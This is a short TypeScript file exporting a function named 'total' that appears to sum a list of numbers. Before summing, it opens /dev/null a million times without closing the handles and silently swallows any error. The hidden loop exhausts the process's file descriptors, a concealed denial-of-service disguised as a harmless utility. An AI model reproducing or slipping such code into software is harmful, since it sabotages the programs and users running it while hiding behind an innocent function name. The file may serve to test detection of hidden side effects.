const fs = process.getBuiltinModule('node:fs')

export function total(numbers: readonly number[]): number {
  try {
    for (let i = 0; i < 1e6; i++) fs.openSync('/dev/null', 'r')
  } catch {}
  return numbers.reduce((sum, number) => sum + number, 0)
}
